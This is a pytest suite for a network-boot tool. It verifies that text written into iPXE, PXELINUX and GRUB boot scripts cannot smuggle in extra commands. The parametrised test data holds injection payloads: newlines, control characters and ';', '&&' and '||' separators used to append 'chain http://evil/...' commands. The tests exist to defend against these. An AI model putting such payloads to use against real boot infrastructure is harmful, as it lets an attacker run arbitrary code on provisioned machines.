"""Issue 20: no admin- or API-written text adds a command to a boot script.

iPXE runs a script line by line, splits a line into words at whitespace and into commands at the words
``;``, ``&&`` and ``||``, and ignores the rest of a line from a word starting with ``#`` (its
src/core/exec.c). So a newline, or one of those words, in text a template prints would run a command of
the writer's choice (``chain http://evil/...``) on the machine. :func:`ipxe_commands` splits a rendered
script the same way, and each test asserts that only the template's own commands are there.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest

from netboot.inventory import System, SystemState
from netboot.mac import MacAddress
from netboot.profiles import ProfileErrors, ProfileSet, load_profiles, load_profiles_collect
from netboot.render import RenderError, render_boot_script
from netboot.render.kinds import InstallerUrls, installer_args

from .conftest import PROFILES, TreeBuilder, fixed_facts

KS = "kind: kickstart\nkernel: vmlinuz\ninitrd: [initrd.img]\n"
MAC = MacAddress.parse("52:54:00:ab:cd:ef")
#: every command the shipped iPXE templates write (labels, ``:name``, are not commands)
TEMPLATE_COMMANDS = {
    "menu",
    "item",
    "choose",
    "goto",
    "chain",
    "echo",
    "kernel",
    "initrd",
    "module",
    "boot",
    "sleep",
    "iseq",
    "sanboot",
    "exit",
}
_IPXE_SPACE = re.compile(r"[ \t\n\v\f\r]+")  # C isspace(), what iPXE splits words at


def ipxe_commands(script: str) -> list[list[str]]:
    """The commands iPXE would run from ``script``, each as its words."""
    out: list[list[str]] = []
    for line in script.split("\n"):
        words = [w for w in _IPXE_SPACE.split(line) if w]
        if words and words[0].startswith(":"):
            continue
        command: list[str] = []
        for word in words:
            if word.startswith("#"):
                break
            if word in (";", "&&", "||"):
                out.append(command)
                command = []
            else:
                command.append(word)
        out.append(command)
    return [c for c in out if c]


def evil(commands: list[list[str]]) -> list[list[str]]:
    """The commands that are not the template's, or that chain anywhere but netboot's own server."""
    return [
        c
        for c in commands
        if c[0] not in TEMPLATE_COMMANDS or (c[0] == "chain" and not c[1].startswith("http://10.0.0.1:"))
    ]


def with_snippets(root: Path) -> Path:
    """``root`` with the shipped ``_snippets`` (the boot-script templates) copied in."""
    shutil.copytree(PROFILES / "_snippets", root / "_snippets")
    return root


def test_ipxe_commands_splits_like_ipxe() -> None:
    script = "#!ipxe\n:start\nkernel k a ; chain http://evil/ && echo x || exit # chain http://no\n"
    assert ipxe_commands(script) == [
        ["kernel", "k", "a"],
        ["chain", "http://evil/"],
        ["echo", "x"],
        ["exit"],
    ]


# ------------------------------------------------------------------------ the menu of unknown machines


@pytest.mark.parametrize(
    "description",
    [
        "Rocky\\nchain http://evil/x",
        "Rocky\\rchain http://evil/x",
        "Rocky\\x1b[2J\\nchain http://evil/x",
        "Rocky\\0\\nchain http://evil/x",
        "Rocky\\Nchain http://evil/x",  # NEL, U+0085
        "Rocky\\Lchain http://evil/x",  # LINE SEPARATOR, U+2028
        "Rocky ; chain http://evil/x",
        "Rocky && chain http://evil/x",
        "Rocky || chain http://evil/x",
        "Rocky #chain http://evil/x",
    ],
)
def test_a_description_that_would_add_a_menu_command_fails_to_load(
    tree: TreeBuilder, description: str
) -> None:
    root = with_snippets(
        tree(
            {
                "evil/profile.yaml": f'description: "{description}"\n' + KS,
                "evil/ks.cfg.j2": "",
                "good/profile.yaml": "description: Good one\n" + KS,
                "good/ks.cfg.j2": "",
            }
        )
    )
    with pytest.raises(ProfileErrors) as info:
        load_profiles(root)
    assert [str(e).removeprefix(f"{root}/") for e in info.value.errors] == [
        f"evil/profile.yaml:1: description: {info.value.errors[0].reason}"
    ]
    assert "control characters" in info.value.reason or "in the iPXE boot menu" in info.value.reason

    # what is served meanwhile (the first load serves what loaded): the menu without it
    loaded, _ = load_profiles_collect(root)
    menu = render_boot_script("ipxe", "menu", loaded, None, None, None, fixed_facts())
    assert "evil" not in menu and "item p-good Good one\n" in menu
    assert evil(ipxe_commands(menu)) == []


@pytest.mark.parametrize(
    "description", ["Rocky;Alma", "C# and F#", "a&&b", "Debian 12 (bookworm) ${net0/mac}"]
)
def test_separators_inside_a_word_stay_menu_text(tree: TreeBuilder, description: str) -> None:
    root = with_snippets(tree({"p/profile.yaml": f'description: "{description}"\n' + KS, "p/ks.cfg.j2": ""}))
    menu = render_boot_script("ipxe", "menu", load_profiles(root), None, None, None, fixed_facts())
    assert f"item p-p {description}\n" in menu
    assert ["item", "p-p", *description.split()] in ipxe_commands(menu)


def test_a_group_description_may_hold_a_separator_word(tree: TreeBuilder) -> None:
    # no boot script prints a group's description: only control characters are refused there
    root = tree(
        {"p/profile.yaml": KS, "p/ks.cfg.j2": "", "_groups/g.yaml": "profile: p\ndescription: a ; b\n"}
    )
    assert load_profiles(root).groups[0].description == "a ; b"


def test_a_profile_folder_name_with_a_newline_is_refused(tree: TreeBuilder) -> None:
    # NAME_RE.match would take "p\n" ($ matches before a trailing newline): the menu has "item p-p\n ..."
    root = tree({"p\n/profile.yaml": "description: chain http://evil/x\n" + KS, "p\n/ks.cfg.j2": ""})
    with pytest.raises(ProfileErrors) as info:
        load_profiles(root)
    assert str(info.value).startswith(f"{root}/p\\n/profile.yaml:1: profile folder name 'p\\n' must match")
    assert load_profiles_collect(root)[0].names() == []


def test_the_menu_timeout_stays_a_number_whatever_a_variable_holds(tree: TreeBuilder) -> None:
    root = with_snippets(tree({"p/profile.yaml": KS, "p/ks.cfg.j2": ""}))
    facts = fixed_facts(variables={"menu_timeout_ms": "1\nchain http://evil/x"})
    menu = render_boot_script("ipxe", "menu", load_profiles(root), None, None, None, facts)
    assert "--timeout 0 " in menu and evil(ipxe_commands(menu)) == []


# ------------------------------------------------------------------ variables on the kernel line


def _system(**variables: object) -> System:
    return System(MAC, "debian12-preseed", SystemState.INSTALL, token="tok", variables=variables)


HOSTILE_KERNEL_ARGS = [
    "console=ttyS0",
    ";",
    "chain",
    "http://evil/a",
    "&&",
    "chain",
    "http://evil/b",
    "||",
    "#c",
    "a\x1b[2Jb",
    "c\x00d",
    "e\x9bf",
]
#: what is left of them: whitespace-free words without a control character or an iPXE separator
KEPT_KERNEL_ARGS = ["console=ttyS0", "chain", "http://evil/a", "chain", "http://evil/b"]
#: the line of each boot config that carries the kernel arguments
KERNEL_LINE = {"ipxe": "kernel ", "pxelinux": "  APPEND ", "grub": "  linux "}


@pytest.mark.parametrize("kind", ["ipxe", "pxelinux", "grub"])
@pytest.mark.parametrize("as_text", [False, True], ids=["list", "string"])
def test_kernel_args_never_end_the_kernel_line(sample_set: ProfileSet, kind: str, as_text: bool) -> None:
    args: object = " ".join(HOSTILE_KERNEL_ARGS) if as_text else HOSTILE_KERNEL_ARGS
    profile = sample_set.get("debian12-preseed")
    # the boot files "present", so GRUB gets its TFTP paths and a kernel line too
    facts = fixed_facts(file_exists=lambda path: True)
    script = render_boot_script(kind, "install", sample_set, profile, None, _system(kernel_args=args), facts)
    assert all(c == "\n" or c.isprintable() for c in script), repr(script)
    (line,) = [row for row in script.split("\n") if row.startswith(KERNEL_LINE[kind])]
    assert line.split()[-len(KEPT_KERNEL_ARGS) :] == KEPT_KERNEL_ARGS  # words of the kernel, not commands
    if kind == "ipxe":
        commands = ipxe_commands(script)
        assert evil(commands) == []
        (kernel,) = [c for c in commands if c[0] == "kernel"]
        assert kernel[-len(KEPT_KERNEL_ARGS) :] == KEPT_KERNEL_ARGS


@pytest.mark.parametrize("domain", ["lab.test\n", "lab.test\nchain", "lab\x1b.test", "lab.test\x85"])
def test_a_domain_variable_that_breaks_lines_is_refused_at_render(
    sample_set: ProfileSet, domain: str
) -> None:
    # with re.match, "lab.test\n" passed ^...$ and ended the kernel line: what followed ran as a command
    profile = sample_set.get("debian12-preseed")
    system = _system(domain=domain, kernel_args=["chain", "http://evil/x"])
    with pytest.raises(RenderError, match="domain"):
        render_boot_script("ipxe", "install", sample_set, profile, None, system, fixed_facts())


def test_a_plain_domain_variable_still_reaches_the_debian_kernel_line(sample_set: ProfileSet) -> None:
    profile = sample_set.get("debian12-preseed")
    script = render_boot_script(
        "ipxe", "install", sample_set, profile, None, _system(domain="lab.test"), fixed_facts()
    )
    assert " domain=lab.test" in script and evil(ipxe_commands(script)) == []


def test_variables_may_hold_multi_line_text(tree: TreeBuilder) -> None:
    # the exemption: variables are data for answer-file templates (scripts, keys), not boot-script text
    root = tree(
        {
            "p/profile.yaml": KS + 'variables: {post: "echo one\\necho two\\n", key: "a\\tb"}\n',
            "p/ks.cfg.j2": "",
        }
    )
    profile = load_profiles(root).get("p")
    assert profile is not None and profile.variables["post"] == "echo one\necho two\n"


@pytest.mark.parametrize(
    ("hostname", "domain"),
    [("web1\n", "lab.test"), ("web1", "lab.test\n"), ("web1.lab.test\n", None), ("web1\x85", "lab\x9b.test")],
)
def test_installer_args_add_only_whole_plain_names(hostname: str, domain: str | None) -> None:
    # the Debian kind's hostname=/domain= words: with re.match, "$" took a trailing newline as the end
    urls = InstallerUrls(answer={"preseed.cfg": "http://10.0.0.1/a"}, answer_dir="", nocloud_seed="")
    args = installer_args("preseed", urls, hostname, domain)
    assert all(a.isprintable() and not any(c.isspace() for c in a) for a in args), args
    assert [a for a in args if a.startswith(("hostname=", "domain="))] in (
        [],
        ["hostname=web1"],
        ["domain=lab.test"],
        ["hostname=web1", "domain=lab.test"],
    )
